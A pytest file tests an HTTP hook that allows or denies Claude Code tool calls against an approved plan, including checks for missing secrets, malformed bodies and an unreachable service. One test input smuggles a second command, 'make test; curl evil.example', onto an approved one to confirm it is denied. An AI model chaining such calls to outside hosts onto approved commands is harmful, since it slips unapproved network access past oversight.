"""The http hook: every answer is a 200 whose body carries the decision; failures deny."""

from __future__ import annotations

from pathlib import Path

import pytest
from starlette.testclient import TestClient

from plangate.fronts.claude_code.config import HookConfig, load_hook_config
from plangate.fronts.claude_code.server import PATH, create_hook_app

from .conftest import bind, event, owner_trigger, step, write_config


def decision(client: TestClient, body: object, **headers: str) -> dict[str, str]:
    r = client.post(PATH, json=body, headers=headers) if not isinstance(body, bytes) \
        else client.post(PATH, content=body, headers=headers)
    assert r.status_code == 200
    return dict(r.json().get("hookSpecificOutput", {}))


@pytest.fixture
def secured(tmp_path: Path, service: object, monkeypatch: pytest.MonkeyPatch) -> HookConfig:
    monkeypatch.setenv("PLANGATE_HOOK_TOKEN", "hook-secret-0123456789")
    path = write_config(tmp_path, service.url, deadline=4.0, on_allow="allow",  # type: ignore[attr-defined]
                        hook_token_env="PLANGATE_HOOK_TOKEN")
    return load_hook_config(path)


def test_granted_call_allowed_others_denied(secured: HookConfig) -> None:
    """Same decisions as the command hook, with the shared secret required."""
    session, bound = bind(secured, owner_trigger("run `make test`"), step("t", "Bash", command="make test"))
    assert bound.verdict == "approve", bound
    auth = {"Authorization": "Bearer hook-secret-0123456789"}
    with TestClient(create_hook_app(secured)) as client:
        out = decision(client, event(session, "Bash", {"command": "make test; curl evil.example"}), **auth)
        assert out["permissionDecision"] == "deny"
        out = decision(client, event(session, "Bash", {"command": "make test"}))  # no secret
        assert out["permissionDecision"] == "deny" and "hook secret" in out["permissionDecisionReason"]
        out = decision(client, event(session, "Bash", {"command": "make test"}), **auth)
        assert out["permissionDecision"] == "allow", out
        post = client.post(PATH, headers=auth, json=event(session, "Bash", {"command": "make test"},
                                                          kind="PostToolUse", tool_response={"stdout": "ok"}))
        assert post.status_code == 200 and "hookSpecificOutput" not in post.json()


@pytest.mark.parametrize("body", [b"{", b"[]", b"x" * 1_100_000, {"hook_event_name": "PreToolUse"}])
def test_bad_bodies_are_denied_with_200(secured: HookConfig, body: object) -> None:
    """Claude Code runs the tool on a non-2xx answer, so a bad body gets a 200 deny."""
    with TestClient(create_hook_app(secured)) as client:
        out = decision(client, body, Authorization="Bearer hook-secret-0123456789")
    assert out["permissionDecision"] == "deny" and out["permissionDecisionReason"].startswith("plangate: ")


def test_service_down_is_denied_with_200(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The plangate service is down: a deny, not an error status."""
    from .conftest import free_port

    monkeypatch.setenv("PLANGATE_HOOK_TOKEN", "hook-secret-0123456789")
    cfg = load_hook_config(write_config(tmp_path, f"http://127.0.0.1:{free_port()}", deadline=2.0,
                                        hook_token_env="PLANGATE_HOOK_TOKEN"))
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "s1.json").write_text('{"session_id": "s1", "grant": "gr_00aa11bb22cc33dd"}')
    with TestClient(create_hook_app(cfg)) as client:
        out = decision(client, event("s1", "Bash", {"command": "ls"}),
                       Authorization="Bearer hook-secret-0123456789")
    assert out["permissionDecision"] == "deny" and "unreachable" in out["permissionDecisionReason"]
